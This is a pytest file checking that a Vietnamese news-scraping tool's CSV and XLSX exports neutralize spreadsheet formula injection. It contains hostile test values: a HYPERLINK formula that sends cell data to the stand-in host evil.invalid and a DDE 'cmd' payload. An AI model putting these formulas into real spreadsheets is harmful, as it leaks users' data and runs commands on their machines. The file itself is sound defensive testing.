"""Exports open safely in spreadsheets: formula-like scraped text is neutralized (OWASP), numbers kept."""
import csv
import io
import sqlite3
import zipfile

import pytest

from solieu.output import is_formula_like, render, spreadsheet_safe
from tests.conftest import solieu

EVIL = ['=HYPERLINK("http://evil.invalid/?d="&A1,"Xem chi tiết")', "+1+cmd|' /C calc'!A0", "-2+3",
        "@SUM(1+1)", "\tTab đầu dòng", "\rVề đầu dòng"]


@pytest.mark.parametrize("value, expected", [
    *[(v, "'" + v) for v in EVIL],
    ("hộ nghèo", "hộ nghèo"), ("-12.5", "-12.5"), ("+3", "+3"), ("1e5", "1e5"), ("", ""), (None, None), (-4, -4),
    ("a=b", "a=b"), ("-", "'-"),
])
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


def test_render_csv_neutralizes_cells_and_header():
    text = render([{"title": EVIL[0], "n": -3, "v": "-2,5%"}], "csv")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + EVIL[0], "-3", "'-2,5%"]


@pytest.fixture
def evil_db(own_db):
    con = sqlite3.connect(own_db)
    aid = con.execute("SELECT article_id FROM observations GROUP BY article_id ORDER BY COUNT(*) DESC").fetchone()[0]
    con.execute("UPDATE articles SET title = ? WHERE id = ?", [EVIL[0] + " hộ nghèo", aid])
    con.execute("UPDATE observations SET subject = ?, sentence = ? WHERE article_id = ?", [EVIL[3], EVIL[1], aid])
    con.commit()
    con.close()
    return own_db


def _cells(text):
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize("args", [
    ["observations", "--format", "csv"],
    ["search", "HYPERLINK", "--format", "csv"],
])
def test_cli_csv_exports_are_neutralized(evil_db, args):
    proc = solieu(*args, "--db", evil_db)
    assert proc.returncode == 0, proc.stderr[-1000:]
    cells = _cells(proc.stdout)
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert not any(is_formula_like(c) for c in cells)


def test_xlsx_cells_are_text_not_formulas(evil_db, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "o.xlsx"
    proc = solieu("observations", "--db", evil_db, "--format", "xlsx", "-o", str(out))
    assert proc.returncode == 0, proc.stderr[-1000:]
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "HYPERLINK" in sheet
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
